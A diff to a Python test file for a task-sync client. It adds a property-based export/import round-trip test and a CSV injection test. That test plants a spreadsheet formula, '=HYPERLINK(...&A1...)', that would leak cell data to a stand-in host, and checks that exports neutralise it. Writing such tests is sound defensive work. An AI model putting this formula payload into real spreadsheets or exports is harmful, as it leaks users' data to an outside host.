@@ -15,11 +15,14 @@ from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
 
+from conftest import scaled_examples
 from external import need
 from hbw_sync.client import Device
-from hbw_sync.client import importer
+from hbw_sync.client import exporter, importer
 from hbw_sync.client.cli import cli as client_cli
 from hbw_sync.client.importer import ImportOptions, values
 from hbw_sync.errors import UsageError
@@ -399,3 +402,51 @@ def test_bench_import_quick_runs(tmp_path: Path) -> None:
     out = json.loads(res.stdout)
     assert set(out["runs"]) == {"xlsx-40", "csv-40", "xlsx-500", "csv-500"}
     assert all(r["outbox_bytes_per_task"] > 0 for r in out["runs"].values())
+
+
+_text = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=40)
+
+
+@settings(max_examples=scaled_examples(15), deadline=None)
+@given(data=st.lists(st.fixed_dictionaries({
+    "title": _text.filter(lambda t: not values.same_text(t, "")),  # something visible
+    "description": _text,
+    "assignee": st.sampled_from([None, "amina", "bosco", "dana"]),
+    "due": st.one_of(st.none(), st.integers(19_000, 24_000)),
+    "priority": st.integers(0, 3),
+    "needs": st.integers(0, 7),
+}), min_size=1, max_size=6), fmt=st.sampled_from(["xlsx", "csv,", "csv;", "csv\t"]))
+def test_any_tasks_exported_then_imported_are_unchanged(tmp_path_factory, data, fmt: str) -> None:
+    """Whatever people typed (quotes, separators, newlines, '=' at the start, any script), an export
+    imported again matches every task and changes nothing."""
+    where = tmp_path_factory.mktemp("export")
+    out = where / f"out.{'xlsx' if fmt == 'xlsx' else 'csv'}"
+    with Device.init(where / "h", "dana", PASS, kdf=FAST_KDF) as dev:
+        rep = dev.unlock(PASS)
+        rep.create_team("District Finance")
+        rep.import_tasks(data, [])
+        mine = rep.tasks(every=True)
+        exporter.export_tasks(mine, out, separator=fmt[-1] if fmt != "xlsx" else ",")
+        plan = importer.import_file(rep, out, ImportOptions(new_members=TEAM))
+        assert plan.count("unchanged") == len(mine), plan.describe()
+
+
+def test_exports_never_turn_a_colleagues_text_into_a_formula(home: Path, tmp_path: Path) -> None:
+    """CSV injection: a title typed as '=HYPERLINK(...)' on another device must stay text in
+    the supervisor's spreadsheet, and come back unchanged when the export is imported."""
+    evil = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    with Device.open(home) as dev:
+        rep = dev.unlock(PASS)
+        rep.add_task(evil, description="+1 and -1 @here")
+        mine = rep.tasks()
+        exporter.export_tasks(mine, tmp_path / "out.csv")
+        exporter.export_tasks(mine, tmp_path / "out.xlsx")
+    text = (tmp_path / "out.csv").read_bytes().decode("utf-8-sig")
+    assert "'=HYPERLINK" in text and "'+1 and -1 @here" in text
+    ws = load_workbook(tmp_path / "out.xlsx").active
+    title = ws.cell(2, 3)
+    assert title.value == evil and title.data_type == "s"
+    for name in ("out.csv", "out.xlsx"):
+        plan = do_import(home, tmp_path / name)
+        assert plan.count("unchanged") == 1, plan.describe()
+    assert set(tasks(home)) == {evil}
